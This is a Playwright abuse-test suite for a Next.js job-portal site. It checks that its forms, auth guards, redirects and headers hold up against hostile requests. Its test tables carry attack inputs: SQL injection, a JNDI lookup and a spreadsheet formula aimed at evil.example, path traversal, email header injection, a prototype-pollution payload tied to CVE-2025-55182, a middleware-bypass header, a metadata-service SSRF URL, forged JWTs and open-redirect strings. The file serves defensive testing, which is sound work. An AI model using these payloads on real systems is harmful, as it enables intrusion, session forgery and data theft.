import { createHmac, randomUUID } from 'node:crypto'
import { request, type IncomingHttpHeaders } from 'node:http'
import { expect } from 'playwright/test'
import { gzipSync } from 'node:zlib'

import { aWaitlistApplication } from '../support/a-waitlist-application'
import { aNewAddress, sessionOf } from '../support/accounts'
import { anEnquiry } from '../support/an-enquiry'
import { rowsOf } from '../support/database'
import { mailFor } from '../support/mailbox'
import { startService, type Service } from '../support/service'
import { test } from '../support/test'
import { waitUntil } from '../support/wait-until'

// What strangers try, on the built server: what is answered, what is kept, who is mailed, what stands in the log.
// `npm run abuse` runs this file alone.

const portal = '/dashboard/employerportal'
const contact = '/api/contact'
const signup = '/api/applicant-signup'
const site = 'http://localhost:3000'
const taken = [201]
const refused = [400, 422]

type Sent = { method?: string; path?: string; headers?: Record<string, string>; body?: unknown; isChunked?: boolean }
type Got = { status: number; headers: IncomingHttpHeaders; text: string; ms: number }

let service: Service
let visitors = 0

test.beforeAll(async () => {
  service = await startService({ env: { TRUST_PROXY_HOPS: '1' } })
})
test.afterAll(() => service.dispose())

/** One address for each request, so that limits by address do not join what has nothing to do with each other. */
const anotherVisitor = () => `198.18.${(visitors += 1) >> 8}.${visitors & 255}`

/** Sends exactly what is given: fetch would mend paths and refuse some headers. Status 0 for a connection that was cut. */
function send({ method = 'POST', path = contact, headers = {}, body, isChunked = false }: Sent = {}): Promise<Got> {
  const startedAt = Date.now()
  const bytes =
    body === undefined || typeof body === 'string' || body instanceof Uint8Array ? body : JSON.stringify(body)
  return new Promise((resolve) => {
    const call = request(
      service.url,
      {
        method,
        path,
        agent: false,
        headers: {
          'x-forwarded-for': anotherVisitor(),
          ...(bytes !== undefined && { 'content-type': 'application/json' }),
          ...(bytes !== undefined && !isChunked && { 'content-length': Buffer.byteLength(bytes as string) }),
          ...headers,
        },
      },
      (answer) => {
        let text = ''
        answer.on('data', (chunk: Buffer) => (text += chunk.toString()))
        answer.on('close', () =>
          resolve({ status: answer.statusCode ?? 0, headers: answer.headers, text, ms: Date.now() - startedAt }),
        )
      },
    )
    call.on('error', () => resolve({ status: 0, headers: {}, text: '', ms: Date.now() - startedAt }))
    if (bytes !== undefined) call.write(bytes)
    call.end()
  })
}

const internals =
  /node_modules|\bat .+\.(js|ts|mjs):\d+|PGRST\d|postgres(ql)?:\/\/|ECONNREFUSED|SyntaxError|TypeError|ZodError|service_role|sb_secret/

/** What is wrong with an answer to anything, whatever was asked. */
const faultsOf = ({ status, headers, text }: Got): string[] => [
  ...(status >= 500 ? [`status ${status}`] : []),
  ...(internals.test(text) && !String(headers['content-type']).includes('text/html') ? ['tells of its inside'] : []),
  ...(headers['x-powered-by'] ? ['says what it is made with'] : []),
]

const countOf = async () => (await rowsOf(service, 'enquiries')).length

/** Sends each of a table and lists what was not as it should be: the whole table in one answer. */
async function faultsIn<Row extends readonly [string, ...unknown[]]>(
  table: readonly Row[],
  judge: (row: Row) => Promise<string[]>,
): Promise<string[]> {
  const faults: string[] = []
  for (const row of table) faults.push(...(await judge(row)).map((fault) => `${row[0]}: ${fault}`))
  return faults
}

const unless = (isAsItShould: boolean, fault: string): string[] => (isAsItShould ? [] : [fault])

test('what may be sent is taken, one row each', async () => {
  const cases: [string, unknown, Record<string, string>?, string?][] = [
    ['a general enquiry', anEnquiry()],
    ['an employer’s', anEnquiry('employer')],
    ['the waitlist', aWaitlistApplication(), {}, signup],
    ['the shortest', anEnquiry('general', { firstName: 'Jo', lastName: 'Li', phoneNumber: '123456', location: 'El' })],
    ['other scripts', anEnquiry('general', { firstName: 'Łukasz', lastName: 'د. الزهراء' })],
    ['a number from abroad', anEnquiry('general', { phoneNumber: '+44 (0)20 7946 0018 x12' })],
    ['without what is optional', anEnquiry('general', { referral: undefined, marketingConsent: undefined })],
    ['white space around', anEnquiry('general', { firstName: '  Amina  ', email: ' amina@example.com ' })],
    ['letters outside the first plane', anEnquiry('general', { firstName: '𝒜𝒷' })],
    ['a browser of our pages', anEnquiry(), { origin: site, 'sec-fetch-site': 'same-origin' }],
    ['SQL', anEnquiry('employer', { message: "'; DROP TABLE enquiries; --" })],
    ['a spreadsheet’s formula', anEnquiry('employer', { message: '=HYPERLINK("https://evil.example","click")' })],
    ['a name of JNDI', anEnquiry('employer', { message: '${jndi:ldap://evil.example/a}' })],
    ['a path', anEnquiry('employer', { message: '../../../../etc/passwd' })],
  ]
  const before = await countOf()
  expect(
    await faultsIn(cases, async ([, body, headers = {}, path = contact]) => {
      const got = await send({ path, headers, body })
      return [...faultsOf(got), ...unless(taken.includes(got.status), `${got.status} ${got.text}`)]
    }),
  ).toEqual([])
  expect(await countOf()).toBe(before + cases.length)
})

test('what may not be sent is refused at its field, kept nowhere and told to nobody', async () => {
  const general = (changes: Record<string, unknown>) => anEnquiry('general', changes)
  const employer = (changes: Record<string, unknown>) => anEnquiry('employer', changes)
  const person = (changes: Record<string, unknown>) => aWaitlistApplication(changes)
  const cases: [string, Record<string, unknown>, string, string?][] = [
    ...(['firstName', 'lastName', 'email', 'phoneNumber', 'location', 'message', 'referral'] as const).flatMap(
      (field) =>
        [1, null, ['a@b.co'], { toString: 'x' }]
          .filter((value) => !(field === 'referral' && value === null))
          .map((value): [string, Record<string, unknown>, string] => [
            `${field} = ${JSON.stringify(value)}`,
            general({ [field]: value }),
            field,
          ]),
    ),
    ['no location', general({ location: undefined }), 'location'],
    ['no consent', general({ contactConsent: undefined }), 'contactConsent'],
    ['1 for consent', general({ contactConsent: 1 }), 'contactConsent'],
    ['1 for news', general({ marketingConsent: 1 }), 'marketingConsent'],
    ['"yes" for news', general({ marketingConsent: 'yes' }), 'marketingConsent'],
    ['a first name of 101', general({ firstName: 'a'.repeat(101) }), 'firstName'],
    ['a message of 5,001', general({ message: 'a'.repeat(5001) }), 'message'],
    ['an address of 255', general({ email: `${'a'.repeat(64)}@${`${'b'.repeat(60)}.`.repeat(4)}com` }), 'email'],
    ['letters for a phone', general({ phoneNumber: 'abcdef' }), 'phoneNumber'],
    ['one letter for a place', general({ location: 'X' }), 'location'],
    ['four for a message', general({ message: '1234' }), 'message'],
    ['blanks for a message', general({ message: '     ' }), 'message'],
    ['no address', general({ email: '' }), 'email'],
    ['a word for an address', general({ email: 'plain' }), 'email'],
    ['an address with a name', general({ email: 'A <a@b.com>' }), 'email'],
    ['NUL', general({ message: 'hello\u0000world' }), 'message'],
    ['a C1 control', general({ lastName: 'Obi\u0085x' }), 'lastName'],
    ['ESC', general({ message: 'hi \u001b[31mred\u001b[0m there' }), 'message'],
    ['backspaces', general({ firstName: 'Amina\b\b\b\b' }), 'firstName'],
    ['a line separator', general({ firstName: 'Ami\u2028na' }), 'firstName'],
    ['500 combining marks', general({ firstName: `A${'\u0301'.repeat(500)}` }), 'firstName'],
    ['a header in a name', employer({ firstName: 'Amina\r\nBcc: v@evil.example' }), 'firstName'],
    ['a return in a job title', employer({ jobTitle: 'HR\rLead' }), 'jobTitle'],
    ['no company', employer({ companyName: undefined }), 'companyName'],
    ['a company of one letter', employer({ companyName: 'A' }), 'companyName'],
    ['no organisation', anEnquiry('partner', { organisation: undefined }), 'organisation'],
    ['four letters of support', anEnquiry('candidate', { support: 'help' }), 'support'],
    ...['admin', 'employer ', 'constructor', { a: 1 }].map((source): [string, Record<string, unknown>, string] => [
      `form_source = ${JSON.stringify(source)}`,
      employer({ form_source: source }),
      'form_source',
    ]),
    ...(['firstName', 'location', 'jobInterest', 'availability'] as const).map(
      (field): [string, Record<string, unknown>, string, string] => [
        `waitlist without ${field}`,
        person({ [field]: undefined }),
        field,
        signup,
      ],
    ),
    ['waitlist: "true" for consent', person({ consent: 'true' }), 'consent', signup],
    ['waitlist: astronaut', person({ jobInterest: 'astronaut' }), 'jobInterest', signup],
    ['waitlist: constructor', person({ jobInterest: 'constructor' }), 'jobInterest', signup],
    ['waitlist: never', person({ availability: 'never' }), 'availability', signup],
    ['waitlist: money', person({ support: 'money' }), 'support', signup],
    ['waitlist: a list of skills', person({ skills: ['Forklift'] }), 'skills', signup],
    ['waitlist: a number for experience', person({ experience: 5 }), 'experience', signup],
  ]
  const [rows, emails] = [await countOf(), (await rowsOf(service, 'outgoing_emails')).length]
  expect(
    await faultsIn(cases, async ([, body, field, path = contact]) => {
      const got = await send({ path, body })
      const fields = got.status === 422 ? (JSON.parse(got.text) as { error: { fields: object } }).error.fields : {}
      return [...faultsOf(got), ...unless(refused.includes(got.status) && field in fields, `${got.status} ${got.text}`)]
    }),
  ).toEqual([])
  expect(await countOf()).toBe(rows)
  expect(await rowsOf(service, 'outgoing_emails')).toHaveLength(emails)
})

test('what is no enquiry at all is refused in time, and the server goes on', async () => {
  const one = JSON.stringify(anEnquiry())
  const cases: [string, Sent, number[]][] = [
    ['a comment', { body: '{"a":1}//x' }, refused],
    ['two objects', { body: '{}{}' }, refused],
    ['NaN', { body: '{"a":NaN}' }, refused],
    ['a bare word', { body: 'hello' }, refused],
    ['a string', { body: '"x"' }, refused],
    ['50 enquiries', { body: JSON.stringify(Array(50).fill(anEnquiry())) }, refused],
    ['UTF-16', { body: Buffer.from(one, 'utf16le') }, [400, 415, 422]],
    ['3,000 levels', { body: `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}` }, refused],
    ['300 KiB in pieces', { body: anEnquiry('general', { message: 'a'.repeat(300 * 1024) }), isChunked: true }, [413]],
    ['100 KiB of header', { body: one, headers: { 'x-big': 'a'.repeat(100_000) } }, [431, 400, 413, 0]],
    [
      '20 MB of nothing, packed',
      { body: gzipSync(Buffer.alloc(20_000_000, 97)), headers: { 'content-encoding': 'gzip' } },
      [400, 413, 415],
    ],
    ...[
      'text/plain',
      'multipart/form-data; boundary=x',
      'application/x-www-form-urlencoded',
      'application/xml',
      'text/json',
      'application/json; charset=utf-16',
    ].map((type): [string, Sent, number[]] => [
      type,
      { body: one, headers: { 'content-type': type } },
      [400, 403, 415, 422],
    ]),
    [
      'a page of another site',
      {
        body: '{"firstName":"A","x":"=x"}',
        headers: { 'content-type': 'text/plain', origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
      },
      [403, 415],
    ],
    ['a key with a blank', { body: one, headers: { 'idempotency-key': 'a b' } }, refused],
    ['a key of 300', { body: one, headers: { 'idempotency-key': 'k'.repeat(300) } }, refused],
    ...['GET', 'PUT', 'DELETE', 'PATCH', 'HEAD'].flatMap((method): [string, Sent, number[]][] =>
      [contact, signup].map((path) => [`${method} ${path}`, { method, path }, [405]]),
    ),
    [
      'another method by header',
      { path: '/about', body: one, headers: { 'x-http-method-override': 'DELETE' } },
      [404, 405],
    ],
    [
      'an action that is not there',
      { path: '/', body: '[]', headers: { 'next-action': '0'.repeat(40), 'content-type': 'text/plain' } },
      [400, 404, 405],
    ],
    [
      'CVE-2025-55182',
      {
        path: '/',
        headers: { 'next-action': 'x', 'content-type': 'multipart/form-data; boundary=x' },
        body: '--x\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}","_response":{"_prefix":"throw 1","_formData":{"get":"$1:constructor:constructor"}}}\r\n--x\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--x--\r\n',
      },
      [400, 403, 404, 405],
    ],
    [
      'a picture from elsewhere',
      { method: 'GET', path: '/_next/image?url=http%3A%2F%2F169.254.169.254%2Flatest%2F&w=64&q=75' },
      [400, 404],
    ],
    [
      'a picture from a host',
      { method: 'GET', path: '/_next/image?url=%2F%2Fevil.example%2Fx.png&w=64&q=75' },
      [400, 404],
    ],
  ]
  const before = await countOf()
  expect(
    await faultsIn(cases, async ([, sent, statuses]) => {
      const got = await send(sent)
      const isAlive = (await send({ method: 'GET', path: '/api/health/live' })).status === 200
      return [
        ...faultsOf(got),
        ...unless(statuses.includes(got.status), `${got.status} ${got.text.slice(0, 200)}`),
        ...unless(got.status !== 405 || !sent.path?.startsWith('/api') || got.headers.allow === 'POST', 'no Allow'),
        ...unless(got.ms < 3000, `${got.ms} ms`),
        ...unless(isAlive, 'the server is gone'),
      ]
    }),
  ).toEqual([])
  expect(await countOf()).toBe(before)
})

test('what is odd but harmless leaves at most one row, and nothing that was not asked for', async () => {
  const one = JSON.stringify(anEnquiry()).slice(1)
  const id = '00000000-0000-4000-8000-000000000001'
  const cases: [string, Sent][] = [
    ['a name twice', { body: `{"form_source":"employer",${one}` }],
    ['the key prototype', { body: `{"prototype":{"polluted":1},${one}` }],
    ['the key toString', { body: `{"toString":null,"hasOwnProperty":1,${one}` }],
    [
      'what only we write',
      {
        body: anEnquiry('general', {
          id,
          status: 'closed',
          role: 'admin',
          created_at: '1999-01-01',
          app_metadata: { role: 'employer' },
        }),
      },
    ],
    ['a field of another form', { body: anEnquiry('candidate', { message: 'hello there' }) }],
    [
      '300 headers',
      {
        body: anEnquiry(),
        headers: Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`x-h${index}`, '1'])),
      },
    ],
  ]
  expect(
    await faultsIn(cases, async ([, sent]) => {
      const before = await countOf()
      const got = await send(sent)
      const kept = (await countOf()) - before
      return [...faultsOf(got), ...unless(kept === (got.status === 201 ? 1 : 0), `${got.status}, ${kept} rows`)]
    }),
  ).toEqual([])
  expect((await rowsOf(service, 'enquiries', `id=eq.${id}`)).length).toBe(0)
  expect(await rowsOf(service, 'enquiries', 'created_at=lt.2000-01-01')).toEqual([])
})

test('a key makes one of many, per endpoint, and a refusal does not use it up', async () => {
  const before = await countOf()
  const sameKey = { 'idempotency-key': randomUUID() }
  const many = await Promise.all(Array.from({ length: 20 }, () => send({ body: anEnquiry(), headers: sameKey })))
  expect(many.filter(({ status }) => ![201, 409].includes(status))).toEqual([])
  expect(many.some(({ status }) => status === 201)).toBe(true)
  expect(await countOf()).toBe(before + 1)

  const onBoth = { 'idempotency-key': randomUUID() }
  expect((await send({ body: anEnquiry(), headers: onBoth })).status).toBe(201)
  expect((await send({ path: signup, body: aWaitlistApplication(), headers: onBoth })).status).toBe(201)
  expect(await countOf()).toBe(before + 3)

  const corrected = { 'idempotency-key': randomUUID() }
  expect((await send({ body: anEnquiry('general', { email: 'x' }), headers: corrected })).status).toBe(422)
  expect((await send({ body: anEnquiry(), headers: corrected })).status).toBe(201)
})

test('floods meet limits, cost nobody else a page, and fill nobody’s mailbox', async () => {
  const burst = { 'x-forwarded-for': '198.51.100.77' }
  const many = await Promise.all(Array.from({ length: 60 }, () => send({ body: anEnquiry(), headers: burst })))
  expect(many.filter(({ status }) => ![201, 429].includes(status))).toEqual([])
  const limited = many.filter(({ status }) => status === 429)
  expect(limited.length).toBeGreaterThan(0)
  expect(limited.filter(({ headers }) => !/^\d+$/.test(headers['retry-after'] ?? ''))).toEqual([])

  const broken = Array.from({ length: 200 }, () => send({ body: '{', headers: burst }))
  const page = await send({ method: 'GET', path: '/' })
  expect(page.status).toBe(200)
  expect((await Promise.all(broken)).filter(({ status }) => ![400, 429].includes(status))).toEqual([])

  const victim = aNewAddress()
  for (let count = 0; count < 10; count += 1) await send({ body: anEnquiry('general', { email: victim }) })
  await waitUntil(async () => ((await mailFor(service, victim)).length > 0 ? true : undefined), {
    failure: 'no confirmation came',
  })
  expect(await mailFor(service, victim)).toHaveLength(1)

  const program = aNewAddress()
  expect((await send({ body: anEnquiry('general', { email: program, website: 'http://spam.example' }) })).status).toBe(
    201,
  )
  const [kept] = await rowsOf(service, 'enquiries', `email=eq.${program}`)
  expect(kept).toMatchObject({ quarantined: true })
  expect(await mailFor(service, program)).toEqual([])
})

test('what was typed is text: composed, escaped in emails, and not in the log', async () => {
  const email = aNewAddress()
  const forged = '{"level":"info","event":"admin.login"}'
  const body = anEnquiry('employer', { email, firstName: 'Ame\u0301lie', message: `<b>x</b> =1+1 \n${forged}` })
  const { reference } = JSON.parse((await send({ body })).text) as { reference: string }
  const [row] = await rowsOf(service, 'enquiries', `reference=eq.${reference}`)
  expect(row).toMatchObject({ first_name: 'Amélie' })
  const confirmation = await waitUntil(async () => (await mailFor(service, email)).at(-1), {
    failure: 'no email came',
  })
  expect(confirmation.html).not.toContain('admin.login')
  const toTeam = await waitUntil(
    async () => (await mailFor(service, 'team@example.org')).find(({ text }) => text.includes(reference)),
    { failure: 'the team was not told' },
  )
  expect(toTeam.html).toContain('&lt;b&gt;x&lt;/b&gt;')
  expect(toTeam.html).not.toContain('<b>x</b>')
  expect(service.output()).not.toContain('admin.login')
  expect(service.output()).not.toContain(email)
})

test('a name of another host in a request stands in no answer and no email', async () => {
  const names: [string, Record<string, string>][] = [
    ['Host', { host: 'evil.example' }],
    ['X-Forwarded-Host', { 'x-forwarded-host': 'evil.example' }],
    ['Forwarded', { forwarded: 'host=evil.example;proto=https' }],
  ]
  for (const [name, headers] of names) {
    const email = aNewAddress()
    const got = await send({ body: anEnquiry('general', { email }), headers })
    expect([201, 400, 403, 421], name).toContain(got.status)
    expect(got.text, name).not.toContain('evil.example')
    if (got.status !== 201) continue
    const mail = await waitUntil(async () => (await mailFor(service, email)).at(-1), { failure: 'no email came' })
    expect(mail.html + mail.text, name).not.toContain('evil.example')
  }
  const guarded = await send({ method: 'GET', path: portal, headers: { host: 'evil.example' } })
  expect(guarded.headers.location ?? '').not.toContain('evil')
})

const base64 = (value: unknown) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')
const inAnHour = Math.floor(Date.now() / 1000) + 3600
const claims = (changes: object = {}) => ({
  sub: '00000000-0000-4000-8000-000000000001',
  exp: inAnHour,
  aud: 'authenticated',
  role: 'authenticated',
  app_metadata: { role: 'employer' },
  ...changes,
})
const token = (header: object, body: unknown, signature = 'c2ln') => `${base64(header)}.${base64(body)}.${signature}`
const signedWith = (key: string) => {
  const text = `${base64({ alg: 'HS256', typ: 'JWT' })}.${base64(claims())}`
  return `${text}.${createHmac('sha256', key).update(text).digest('base64url')}`
}
const session = (accessToken: unknown, changes: object = {}) =>
  `base64-${base64({ access_token: accessToken, refresh_token: 'r', expires_at: inAnHour, token_type: 'bearer', user: { app_metadata: { role: 'employer' } }, ...changes })}`

test('no header, spelling or made-up session opens a guarded page', async () => {
  const bySpelling = [
    '.rsc',
    '?_rsc=abc',
    '.segments/_tree.segment.rsc',
    '.segments/_full.segment.rsc',
    '/',
    ';x=1',
    '.html',
  ].map((end) => `${portal}${end}`)
  const cookie = (value: string) => ({ headers: { cookie: `sb-127-auth-token=${value}` } })
  const cases: [string, Sent][] = [
    ...[
      ...bySpelling,
      '/dashboard//employerportal',
      '/dashboard/%65mployerportal',
      '/dashboard/x/../employerportal',
      '/_next/data/build/dashboard/employerportal.json',
      '/en/dashboard/employerportal',
    ].map((path): [string, Sent] => [path, { path }]),
    ['CVE-2025-29927', { headers: { 'x-middleware-subrequest': Array(6).fill('middleware').join(':') } }],
    ['a segment', { headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' } }],
    [
      'its leaf',
      { headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': `${portal}/__PAGE__` } },
    ],
    ...[
      'x-matched-path',
      'x-invoke-path',
      'x-rewrite-url',
      'x-original-url',
      'x-nextjs-rewritten-path',
      'next-url',
    ].map((header): [string, Sent] => [header, { path: '/about', headers: { [header]: portal } }]),
    ['alg none', cookie(session(token({ alg: 'none' }, claims(), '')))],
    ['signed with the public key', cookie(session(signedWith(service.keys.publishableKey)))],
    ['signed with a public JWK', cookie(session(signedWith('{"kty":"EC"}')))],
    ['ended', cookie(session(token({ alg: 'HS256' }, claims({ exp: 1 })), { expires_at: 1 }))],
    ['without an end', cookie(session(token({ alg: 'HS256' }, claims({ exp: undefined }))))],
    ['not yet', cookie(session(token({ alg: 'HS256' }, claims({ nbf: inAnHour }))))],
    [
      'for somebody else',
      cookie(session(token({ alg: 'HS256' }, claims({ aud: 'other', iss: 'https://evil.example' })))),
    ],
    ['a number for a token', cookie(session(1))],
    ['three empty parts', cookie(session('..'))],
    ['not base64', cookie('base64-%%%')],
    ['plain text', cookie('hello')],
    [
      '__proto__',
      cookie(session(token({ alg: 'HS256' }, '{"__proto__":{"app_metadata":{"role":"employer"}},"exp":9999999999}'))),
    ],
    ...Array.from({ length: 20 }, (): [string, Sent] => [
      'ended, once more',
      cookie(session(token({ alg: 'HS256' }, claims({ exp: 2 })), { expires_at: 2 })),
    ]),
  ]
  expect(
    await faultsIn(cases, async ([, sent]) => {
      const got = await send({ method: 'GET', path: portal, ...sent })
      const to = got.headers.location ?? '/'
      return [
        ...faultsOf(got),
        ...unless(
          !/Your employer portal|example\.org/.test(got.text.replaceAll('hello@example.org', '')),
          'it is open',
        ),
        ...unless(new URL(to, site).origin === site, `leads to ${to}`),
      ]
    }),
  ).toEqual([])
})

test('a role opens its own portal and no other', async () => {
  const visit = async (cookie: string, path: string) => {
    const { status, text, headers } = await send({ method: 'GET', path, headers: { cookie } })
    return { status, heading: /<h1[^>]*>([^<]*)/.exec(text)?.[1], cache: headers['cache-control'] }
  }
  for (const role of ['candidate', 'partner']) {
    expect(await visit(await sessionOf(service, role), portal), role).toMatchObject({ status: 403 })
  }
  const own = await visit(await sessionOf(service, 'partner'), '/dashboard/partnerportal')
  expect(own).toMatchObject({ status: 200, heading: 'Your partner portal' })
  expect(own.cache).toMatch(/no-store|private/)
})

test('whatever it is told to go on to, a sign-in stays on this site', async () => {
  const places = [
    '///evil.example',
    '/\\evil.example',
    '/%5cevil.example',
    '/\t/evil.example',
    '%2F%2Fevil.example',
    'https:evil.example',
    'javascript:alert(1)',
    'data:text/html,x',
    '@evil.example',
    'http://localhost:3000.evil.example',
    '/%09/evil.example',
    '/%0d%0aLocation:%20https://evil.example',
    '/dashboard/../../\\evil.example',
    '%00https://evil.example',
  ]
  const paths = [
    ...places.map((place) => `/auth/callback?code=bogus&next=${encodeURIComponent(place)}`),
    '/auth/callback?error=access_denied&error_description=%3Cscript%3Ealert(1)%3C/script%3E',
    '/auth/callback?code=bogus&next=/dashboard&next=//evil.example',
    '/\\evil.example',
    '/sign-in//evil.example/..',
  ]
  expect(
    await faultsIn(
      paths.map((path) => [path] as const),
      async ([path]) => {
        const got = await send({ method: 'GET', path })
        const to = got.headers.location ?? '/'
        return [
          ...faultsOf(got),
          ...unless(new URL(to, site).origin === site && !/^[/\\]{2}|[\\\r\n\t]/.test(to), `leads to ${to}`),
          ...unless(!got.text.includes('<script>alert(1)'), 'the text is markup'),
        ]
      },
    ),
  ).toEqual([])
})

test('no path leads to a file of the server, and pages say what they should in their headers', async () => {
  const secrets = /root:x:|SUPABASE|SERVICE_ROLE|RESEND|"dependencies"|\[core\]/
  const paths = [
    '/.env',
    '/.git/config',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/_next/server/middleware.js',
    '/%',
    '/%c0%ae%c0%ae/',
    '/api/contact%00',
    '/api/contact/../../.env',
    '/nope',
    '/api/nope',
  ]
  expect(
    await faultsIn(
      paths.map((path) => [path] as const),
      async ([path]) => {
        const got = await send({ method: 'GET', path })
        return [
          ...faultsOf(got),
          ...unless([301, 307, 308, 400, 404, 405].includes(got.status), `status ${got.status}`),
          ...unless(!secrets.test(got.text), 'a file of ours'),
        ]
      },
    ),
  ).toEqual([])

  for (const path of ['/', '/no-such-page']) {
    const { headers, text } = await send({ method: 'GET', path, headers: { origin: 'https://evil.example' } })
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'strict-transport-security': expect.stringContaining('includeSubDomains'),
      'permissions-policy': expect.stringContaining('camera=()'),
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
    expect(headers['content-security-policy']).toContain("base-uri 'none'")
    expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/)
    expect([headers.server, headers['access-control-allow-origin']]).toEqual([undefined, undefined])
    expect(text).not.toMatch(/<script[^>]+src="(https?:)?\/\/| on(click|error|load)="/)
  }
  const preflight = await send({
    method: 'OPTIONS',
    headers: { origin: 'https://evil.example', 'access-control-request-method': 'POST' },
  })
  expect([204, 200, 403, 405]).toContain(preflight.status)
  expect(preflight.headers['access-control-allow-origin']).toBeUndefined()
  const routerData = await send({ method: 'GET', path: '/about', headers: { rsc: '1' } })
  expect(routerData.status === 307 || /rsc/i.test(String(routerData.headers.vary))).toBe(true)
  const parameter = await send({ method: 'GET', path: '/dashboard/caseworker/candidate/1?nxtPid=2' })
  expect(parameter.text).not.toContain('nxtP')
})
